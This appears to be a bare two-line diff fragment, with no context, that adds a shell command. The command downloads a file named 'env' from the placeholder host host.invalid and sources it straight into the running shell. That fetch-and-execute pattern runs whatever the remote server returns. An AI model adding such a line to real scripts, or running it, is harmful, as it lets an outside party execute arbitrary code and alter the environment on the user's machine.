@@ -1,0 +1,2 @@
+source <(curl -s \
+  https://host.invalid/env)
